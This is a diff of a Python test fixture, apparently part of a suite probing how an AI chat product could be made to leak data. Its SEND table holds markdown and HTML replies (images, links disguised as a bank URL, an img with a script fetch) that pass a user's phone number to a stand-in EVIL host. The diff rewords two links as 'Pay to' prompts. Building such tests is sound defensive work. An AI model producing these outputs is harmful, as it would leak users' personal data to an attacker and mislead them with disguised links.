@@ -113,12 +113,12 @@ RAISE = {
 }
 SEND = {
     "by an image": [[{"say": f"Done. ![pixel]({EVIL}{{phone}})"}]],
-    "by a link": [[{"say": f"[Your bank]({EVIL}{{phone}})"}]],
+    "by a link": [[{"say": f"Pay to [your bank]({EVIL}{{phone}})"}]],
     "by HTML": [[{"say": f'<img src="{EVIL}{{phone}}"><script>fetch("{EVIL}")</script>'}]],
     "by an image that says what it is for": [
         [{"say": f"![{{phone}}][1]\n\n[1]: {EVIL}{{phone}} 'logo'"}]
     ],
-    "by a link that shows another": [[{"say": f"[https://bank.example/]({EVIL}{{phone}})"}]],
+    "by a link that shows another": [[{"say": f"Pay to [https://bank.example/]({EVIL}{{phone}})"}]],
     "by a link in HTML": [
         [{"say": f'<a href="{EVIL}{{phone}}">https://bank.example/</a> &lt;img src={EVIL}&gt;'}]
     ],
